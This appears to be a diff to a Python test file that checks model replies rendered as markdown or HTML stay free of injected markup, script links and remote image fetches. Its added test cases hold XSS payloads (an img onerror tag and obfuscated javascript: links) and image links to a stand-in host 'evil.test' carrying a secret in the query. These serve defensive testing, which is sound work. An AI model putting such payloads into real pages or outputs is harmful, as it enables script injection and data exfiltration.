@@ -3,6 +3,7 @@
 import copy
 import pickle
 from decimal import Decimal
+from html import unescape
 
 import msgspec
 import pytest
@@ -53,7 +54,36 @@ def test_what_a_model_says_is_never_html_of_ours() -> None:
         assert "<b>" not in page
         assert "<i>" not in page
         assert "&lt;script&gt;" in page
-    assert 'href="javascript' not in told["text/html"]
+        assert 'href="javascript' not in page
+
+
+TAG = "<img src=x onerror=alert(1)>"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"\\`{TAG}\\`",
+        f"`two\nlines` {TAG} `",
+        f"a `` {TAG} ` b",
+        f"| a | b |\n|---|---|\n| `x | {TAG} ` |",
+        f"<!-- x\n```\n-->\ny\n```\n{TAG}",
+        f"- a\n\n      `{TAG}\n\nb`",
+        "`two\nlines` ![x](https://evil.test/?q=secret) `",
+        "<pre>\n\n![x](https://evil.test/?q=secret)\n\n</pre>",
+        "    indented\n \n    [x](javascript:alert(1))\n\n[x](java\\script&colon;alert(1))",
+        "[x](java&#9;script:alert(1))",
+        "[x]\n\n[x]: javascript:alert(1)",
+    ],
+)
+def test_what_looks_like_code_to_one_reader_is_no_way_in_at_another(text: str) -> None:
+    said = bundle(reply(text))["text/markdown"]
+    tables = MarkdownIt("commonmark", {"html": True}).enable("table")
+    careless = MarkdownIt("commonmark", {"html": True})
+    careless.validateLink = lambda url: True
+    for page in (tables.render(said), careless.render(said), careless.render("".join(f"{x}\n" for x in said.split()))):
+        assert "<img" not in page
+        assert "script:" not in unescape(page).replace("\t", "").partition("href=")[2].partition(">")[0]
 
 
 @pytest.mark.parametrize("text", ["![x](https://evil.test/?q=secret)", "![x][1]\n\n[1]: https://evil.test/p.png"])
@@ -65,10 +95,24 @@ def test_no_picture_is_fetched(text: str) -> None:
 
 def test_code_stays_as_it_is() -> None:
     text = "Use `vec![1]` and `a<b>`:\n\n```rust\nlet v: Vec<i32> = vec![1];\n```\n\n- a\n\n      <b>![x](y)\n\nEnd <b>"
-    told = bundle(reply(text))["text/markdown"]
-    assert "Use `vec![1]` and `a<b>`:" in told
-    assert "let v: Vec<i32> = vec![1];" in told
-    assert "End &lt;b>" in told
+    page = rendered(bundle(reply(text))["text/markdown"])
+    for code in (
+        "<code>vec![1]</code>",
+        "<code>a&lt;b&gt;</code>",
+        "let v: Vec&lt;i32&gt; = vec![1];\n",
+        "End &lt;b&gt;",
+    ):
+        assert code in page.replace("&#91;", "[")
+    plain = "Less `a < b`:\n\n```python\na[1] = x < y\n```\n\nEnd [here](https://ringmain.test)."
+    assert bundle(reply(plain))["text/markdown"].startswith(plain)
+
+
+def test_blank_lines_in_code_stay_in_it() -> None:
+    text = "- one\n\n  ```html\n  <p>\n\n   \n  **x**\n\n\n  </p>\n  ```\n\n- two\n\n# Head\n\n```\n<b>\n\n\n[x]\n```"
+    page = rendered(bundle(reply(text))["text/markdown"])
+    assert unescape(page).startswith(
+        unescape(bundle(reply(text))["text/html"]).removeprefix("<div>").partition("\n<p><small>")[0]
+    )
 
 
 def test_a_block_of_code_that_was_cut_off_does_not_swallow_the_small_print() -> None:
